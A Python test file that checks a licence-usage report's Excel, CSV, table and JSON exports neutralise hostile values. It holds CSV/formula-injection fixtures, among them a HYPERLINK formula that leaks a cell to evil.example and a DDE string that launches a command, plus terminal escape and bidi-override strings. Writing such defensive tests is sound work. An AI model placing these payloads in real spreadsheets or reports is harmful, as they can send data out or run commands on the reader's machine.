"""Every report format with hostile values (issue 14, part 2): no cell is ever a formula, a
CSV field never starts like one, and control, bidi and other invisible characters are shown
as escapes (JSON keeps them exact, escaped by its own syntax). The same hostile fleet, through
Kafka, Postgres, the CLI and LibreOffice: tests/acceptance/test_report_injection.py."""

from __future__ import annotations

import csv
import io
import unicodedata
from datetime import UTC, datetime
from pathlib import Path

import orjson
import pytest
from openpyxl import load_workbook

from worker.licensing.usage import LicenseCount, usage_totals
from worker.report.formats import (
    CsvWriter,
    CustomerUsage,
    JsonWriter,
    ReportInfo,
    ReportWriter,
    TableWriter,
)
from worker.report.rows import COLUMNS, Customer, ReportRow
from worker.report.xlsx import XlsxWriter

SEEN = datetime(2026, 11, 30, 8, 15, 30, tzinfo=UTC)
INFO = ReportInfo(as_of=SEEN, source="live", generated_at=SEEN, release_window_days=30)

# Formulas that would compute something other than their own text, and an Excel error code.
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
CUSTOMER_ID = HYPERLINK
# A terminal hyperlink (OSC 8), a clear-screen, a fake line, a right-to-left override, C1
# controls (NEL, CSI), DEL, a line separator, a vertical tab (which openpyxl refuses), a
# language tag (outside the BMP) and a NUL.
NAME = (
    "=1+1 Evil\x1b]8;;http://evil.example\x07Corp\x1b[2J\r\nFAKE LINE\u202egnp.exe"
    "\x85\x9b31m\x7f\u2028\x0b\U000e0001\x00 Müller\u00a0GmbH 😀"
)
SUBJECTS = [
    "+7*6",
    "-2+44",
    "@SUM(1,41)",
    "=2*21",
    "\t=3*14",
    "\r=4*10+2",
    "#REF!",
    "=cmd|' /C calc'!A0",
]
USER_ID = '=CONCATENATE("PW","NED")'

HOSTILE = CustomerUsage(
    Customer(CUSTOMER_ID, NAME, "active", "user"),
    usage_totals([LicenseCount("user", "user", "core", 1)]),
)
ROWS = [
    ReportRow(CUSTOMER_ID, "device", subject, USER_ID, "business", True, "unassigned",
              "unassigned", "core", SEEN, None)
    for subject in SUBJECTS
] + [
    ReportRow(CUSTOMER_ID, "user", USER_ID, USER_ID, None, True, "licensed", "user", "core",
              SEEN, 3),
]  # fmt: skip
TEXTS = [CUSTOMER_ID, NAME, USER_ID, *SUBJECTS]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def write(writer: ReportWriter) -> None:
    writer.start(INFO, [HOSTILE], HOSTILE.totals)
    writer.start_customer(HOSTILE)
    for row in ROWS:
        writer.row(row)
    writer.end_customer()
    writer.finish()


def invisible(text: str) -> list[str]:
    """The characters a terminal or a spreadsheet would not show as themselves (controls,
    format characters such as bidi overrides, line and paragraph separators), except the
    line feeds the report's own layout uses."""
    return [
        ch
        for ch in text
        if ch != "\n" and unicodedata.category(ch) in {"Cc", "Cf", "Cs", "Zl", "Zp"}
    ]


def test_xlsx_never_holds_a_formula_and_shows_control_characters_as_escapes(
    tmp_path: Path,
) -> None:
    path = tmp_path / "report.xlsx"
    write(XlsxWriter(path))  # a vertical tab in the name used to raise IllegalCharacterError
    book = load_workbook(path)
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type not in {"f", "e"}, (sheet.title, cell.coordinate)
                if isinstance(cell.value, str):
                    assert cell.data_type == "s"
                    assert invisible(cell.value) == [], (sheet.title, cell.coordinate)
                    texts.append(cell.value)
    summary, detail = book["Summary"], book["Detail"]
    assert summary["A2"].value == CUSTOMER_ID
    assert summary["B2"].value == (
        "=1+1 Evil\\x1b]8;;http://evil.example\\x07Corp\\x1b[2J\\x0d\\x0aFAKE LINE\\u202egnp.exe"
        "\\x85\\x9b31m\\x7f\\u2028\\x0b\\U000e0001\\x00 Müller\u00a0GmbH 😀"
    )
    assert [detail.cell(row, 3).value for row in range(2, 2 + len(SUBJECTS))] == [
        "+7*6", "-2+44", "@SUM(1,41)", "=2*21", "\\x09=3*14", "\\x0d=4*10+2", "#REF!",
        "=cmd|' /C calc'!A0",
    ]  # fmt: skip
    # Excel's own mark for "text, even when edited": a formula-like text keeps it.
    assert summary["A2"].quotePrefix
    assert detail["D2"].quotePrefix
    assert not detail["E2"].quotePrefix  # "business"
    # Numbers, booleans and times keep their types.
    assert (detail["F2"].data_type, detail["F2"].value) == ("b", True)
    assert detail["J2"].value == datetime(2026, 11, 30, 8, 15, 30)
    assert (detail.cell(len(ROWS) + 1, 11).data_type, detail.cell(len(ROWS) + 1, 11).value) == (
        "n",
        3,
    )
    assert summary["G2"].data_type == "n"


def test_csv_neutralises_formula_starts_quotes_text_and_escapes_controls() -> None:
    out = io.StringIO()
    write(CsvWriter(out))
    text = out.getvalue()
    assert invisible(text) == []
    lines = list(csv.reader(io.StringIO(text)))
    assert lines[0] == list(COLUMNS)
    for line in lines[1:]:
        for field in line:
            assert not field.startswith(FORMULA_STARTS), field
    assert [line[2] for line in lines[1 : 1 + len(SUBJECTS)]] == [
        "'+7*6", "'-2+44", "'@SUM(1,41)", "'=2*21", "'\\x09=3*14", "'\\x0d=4*10+2", "#REF!",
        "'=cmd|' /C calc'!A0",
    ]  # fmt: skip
    assert lines[1][0] == "'" + CUSTOMER_ID
    assert lines[1][3] == "'" + USER_ID
    # Text is quoted (OWASP), numbers are not: a count is a number, never text.
    raw_lines = text.splitlines()
    assert raw_lines[1].startswith('"\'=HYPERLINK(""http://evil.example')
    assert raw_lines[-1].endswith('"2026-11-30T08:15:30+00:00",3,""')
    assert raw_lines[1].endswith('"2026-11-30T08:15:30+00:00","",""')


def test_table_shows_control_and_bidi_characters_as_escapes() -> None:
    out = io.StringIO()
    write(TableWriter(out))
    text = out.getvalue()
    assert invisible(text) == []
    assert "\x1b" not in text
    assert "\r" not in text
    header = next(line for line in text.splitlines() if line.startswith("== "))
    assert header == (
        f"== {CUSTOMER_ID} =1+1 Evil\\x1b]8;;http://evil.example\\x07Corp\\x1b[2J\\x0d\\x0a"
        "FAKE LINE\\u202egnp.exe\\x85\\x9b31m\\x7f\\u2028\\x0b\\U000e0001\\x00 Müller\u00a0GmbH 😀"
        " (active, user model)"
    )
    assert not any(line.startswith("FAKE LINE") for line in text.splitlines())
    assert "\\x09=3*14" in text


def test_json_keeps_values_exact_and_escapes_what_a_terminal_would_run() -> None:
    out = io.StringIO()
    write(JsonWriter(out))
    text = out.getvalue()
    assert invisible(text) == []
    document = orjson.loads(text)
    [customer] = document["customers"]
    assert customer["customer"]["customer_id"] == CUSTOMER_ID
    assert customer["customer"]["name"] == NAME
    assert [row["subject_id"] for row in customer["rows"]] == [*SUBJECTS, USER_ID]


@pytest.mark.parametrize(
    "control",
    [chr(n) for n in [*range(0x20), 0x7F, *range(0x80, 0xA0)]],
    ids=lambda control: f"U+{ord(control):04X}",
)
def test_no_control_character_crashes_an_export(control: str, tmp_path: Path) -> None:
    name = f"a{control}b"
    usage = CustomerUsage(Customer(f"c{control}", name, "active", "user"), usage_totals([]))
    for writer in (
        XlsxWriter(tmp_path / "r.xlsx"),
        CsvWriter(io.StringIO()),
        TableWriter(io.StringIO()),
        JsonWriter(io.StringIO()),
    ):
        writer.start(INFO, [usage], usage.totals)
        writer.start_customer(usage)
        writer.row(ReportRow(f"c{control}", "user", name, name, None, False, "x", None, None,
                             None, None))  # fmt: skip
        writer.end_customer()
        writer.finish()
    cell = load_workbook(tmp_path / "r.xlsx")["Summary"]["B2"]
    assert cell.value == f"a\\x{ord(control):02x}b"
